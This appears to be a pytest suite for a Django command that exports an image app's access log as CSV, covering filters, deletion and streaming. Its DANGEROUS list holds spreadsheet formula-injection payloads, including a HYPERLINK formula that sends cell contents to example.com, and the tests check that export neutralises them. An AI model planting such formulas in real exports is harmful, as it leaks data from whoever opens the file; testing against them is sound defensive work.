"""images_audit: the access log as CSV that no spreadsheet runs, in constant memory."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import tracemalloc
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from django.contrib.auth import get_user_model
from django.core.management import CommandError, call_command
from django.utils import timezone

from images_app.access import Viewer
from images_app.management.commands import images_audit
from images_app.models import AccessEntry
from images_app.sharing import create_link
from tests.databases import DATABASE, connection

pytestmark = pytest.mark.django_db
ROOT = Path(__file__).resolve().parent.parent.parent
NOON = datetime(2026, 11, 21, 12, 0, 0, 123456, tzinfo=UTC)
HEADER = ["at", "user", "kind", "id", "level", "verdict", "reason", "link"]


def make_entry(**values):
    defaults = {"at": NOON, "kind": "page", "public_id": uuid.uuid4(), "is_allowed": True}
    return AccessEntry.objects.create(**{**defaults, **values})


def named(name):
    """A user with a name that forms would refuse or tidy up."""
    return get_user_model().objects.create(username=name)


def export(*arguments) -> list[list[str]]:
    out = io.StringIO()
    call_command("images_audit", *arguments, stdout=out)
    header, *rows = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert header == HEADER
    return rows


def test_export__who_what_level_verdict_when_and_through_which_link(make_user, make_gallery):
    owner = make_user("Zoë")
    gallery = make_gallery(owner=owner)
    link, _token = create_link(Viewer(user=owner), gallery)
    allowed = make_entry(user=owner, kind="rendition", level=20, link=link)
    denied = make_entry(
        at=NOON + timedelta(seconds=1), level=30, is_allowed=False, reason="forbidden"
    )
    make_entry(at=NOON - timedelta(days=1))
    at = "2026-11-21T12:00:0{}.123+00:00"
    assert export()[1:] == [
        [
            at.format(0),
            *("Zoë", "rendition", str(allowed.public_id)),
            *("view", "allowed", "", str(link.public_id)),
        ],
        [at.format(1), "", "page", str(denied.public_id), "original", "denied", "forbidden", ""],
    ]


def test_export__of_nothing_is_the_header():
    assert export() == []


DANGEROUS = [
    '=HYPERLINK("http://example.com/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tno formula",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "  =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    '"=1+1"',
    "'=1+1",
]


@pytest.mark.parametrize("name", DANGEROUS)
def test_export__formulas_are_preceded_by_an_apostrophe(name):
    make_entry(user=named(name))
    [[_at, cell, *_rest]] = export()
    assert cell.startswith("'")
    assert cell.replace("'", "") == name.replace("'", "")


@pytest.mark.parametrize("separator", [",", ";", "|", "\t", "\n", "\r\n"])
def test_export__nor_are_they_run_behind_another_separator(separator):
    """A spreadsheet may expect semicolons, and then end the cell where there is one."""
    make_entry(user=named(f"ann{separator} =1+1"))
    [[_at, cell, *_rest]] = export()
    assert cell.endswith("' =1+1")
    assert cell.replace("'", "") == f"ann{separator} =1+1"


@pytest.mark.parametrize(
    "name",
    [
        "a=1",
        "a+b@example.com",
        "anna-maria",
        "O'Hara",
        "a,b",
        'a"b',
        "a\nb",
        "a;b",
        "日本語",
        "é😀",
    ],
)
def test_export__other_names_arrive_as_they_are(name):
    make_entry(user=named(name))
    assert export()[0][1] == name


@pytest.mark.parametrize(
    ("arguments", "expected"),
    [
        ((), [0, 1, 2, 3]),
        (("--since", "2026-11-21"), [1, 2, 3]),
        (("--until", "2026-11-21"), [0]),
        (("--since", "2026-11-21T12:00"), [2, 3]),
        (("--since", "2026-11-21T11:00Z"), [2, 3]),
        (("--since", "2026-11-21 13:00", "--until", "2026-11-21T13:01:00+01:00"), [2]),
        (("--until", "2026-11-21T12:00:00.123456+00:00"), [0, 1]),
        (("--since", "2026-11-21T12:00:00.123456+00:00"), [2, 3]),
        (("--denied",), [1, 3]),
        (("--user", "ann"), [0, 1]),
        (("--user", "ann", "--denied"), [1]),
        (("--since", "0001-01-02"), [0, 1, 2, 3]),
    ],
)
def test_export__filters(settings, make_user, arguments, expected):
    settings.TIME_ZONE = "Europe/Berlin"  # an hour before UTC, so that its days begin at 23:00
    ann, bob = make_user("ann"), make_user("bob")
    midnight = datetime(2026, 11, 20, 23, tzinfo=UTC)
    entries = [
        make_entry(at=midnight - timedelta(microseconds=1), user=ann),
        make_entry(at=midnight, user=ann, is_allowed=False),
        make_entry(at=NOON, user=bob),
        make_entry(at=NOON + timedelta(hours=1), is_allowed=False),
    ]
    ids = [str(entry.public_id) for entry in entries]
    assert [ids.index(row[3]) for row in export(*arguments)] == expected


def test_export__of_one_id_and_of_what_a_link_has_shown(make_user, make_gallery):
    owner = make_user("owner")
    link, _token = create_link(Viewer(user=owner), make_gallery(owner=owner))
    opened = make_entry(kind="link", public_id=link.public_id, link=link)
    shown = make_entry(link=link)
    make_entry()
    for wanted, expected in ((shown, [shown]), (opened, [opened, shown])):
        rows = export("--id", str(wanted.public_id))
        assert [row[3] for row in rows] == [str(entry.public_id) for entry in expected]
    assert len(export("--id", shown.public_id.hex.upper())) == 1
    assert export("--id", str(uuid.uuid4())) == []


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        (("--since", "yesterday"), "'yesterday' is no date and no time. Write 2026-11-21 or"),
        (("--since", "2026-02-30"), "'2026-02-30' is no date"),
        (("--until", "0001-01-01"), "'0001-01-01' is no date"),  # before the first one in UTC
        (("--until", ""), "'' is no date"),
        (("--since", "2026-11-21", "--until", "2026-11-21"), "--since must be before --until."),
        (("--user", "nobody"), "No user has the name 'nobody'."),
        (("--id", "12"), "'12' is no id."),
        (("--delete-old", "--user", "ann"), "goes with no other option"),
        (("--delete-old", "--denied"), "goes with no other option"),
        (("--delete-old", "--id", ""), "goes with no other option"),
    ],
)
def test_export__wrong_arguments_are_named(settings, arguments, message):
    settings.TIME_ZONE = "Europe/Berlin"
    make_entry(at=NOON - timedelta(days=400))
    with pytest.raises(CommandError, match=message):
        export(*arguments)
    assert AccessEntry.objects.exists()


def test_delete_old__in_parts(settings, monkeypatch, capsys):
    settings.IMAGES_APP = {"ACCESS_LOG_DAYS": 7}
    monkeypatch.setattr(images_audit, "_DELETED_AT_ONCE", 2)
    now = timezone.now()
    kept = make_entry(at=now - timedelta(days=6))
    for minute in range(5):
        make_entry(at=now - timedelta(days=8, minutes=minute))
    call_command("images_audit", "--delete-old")
    assert capsys.readouterr().out == "5 entries deleted.\n"
    assert AccessEntry.objects.get() == kept


def make_many(number):
    user = get_user_model().objects.create(username="ann")
    AccessEntry.objects.bulk_create(
        (
            AccessEntry(at=NOON, user=user, kind="page", public_id=uuid.uuid4(), is_allowed=True)
            for _ in range(number)
        ),
        batch_size=1000,
    )


class Counter(io.TextIOBase):
    """A place to write to that keeps nothing."""

    rows = 0

    def write(self, text):
        self.rows += text.count("\n")
        return len(text)


def test_export__in_constant_memory(django_assert_num_queries, monkeypatch):
    monkeypatch.setattr(images_audit, "_READ_AT_ONCE", 200)
    peaks = []
    for number in (1000, 6000):
        AccessEntry.objects.all().delete()
        get_user_model().objects.all().delete()
        make_many(number)
        target = Counter()
        tracemalloc.start()
        with django_assert_num_queries(1):
            call_command("images_audit", stdout=target)
        peaks.append(tracemalloc.get_traced_memory()[1])
        tracemalloc.stop()
        assert target.rows == number + 1
    assert peaks[1] < peaks[0] * 1.2


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("closing", ["early", "late"])
def test_export__a_reader_that_has_had_enough_is_no_error(closing):
    """``images_audit | head``, in a process of its own, as a shell would run it."""
    make_many(5000 if closing == "early" else 1)
    story = (
        "import django, sys; django.setup()\n"
        "from django.db import connections\n"
        f"connections[{DATABASE!r}].settings_dict['NAME'] = {connection.settings_dict['NAME']!r}\n"
        "from django.core.management import execute_from_command_line\n"
        "sys.stdin.readline()\n"
        "execute_from_command_line(['manage.py', 'images_audit'])\n"
    )
    process = subprocess.Popen(
        [sys.executable, "-c", story],
        cwd=ROOT,
        env={**os.environ, "DJANGO_SETTINGS_MODULE": "tests.settings"},
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    if closing == "late":
        process.stdout.close()
    process.stdin.write("go\n")
    process.stdin.flush()
    if closing == "early":
        assert process.stdout.readline().strip() == ",".join(HEADER)
        process.stdout.close()
    said = process.stderr.read()
    process.stdin.close()
    process.stderr.close()
    assert (process.wait(timeout=60), said) == (0, "")
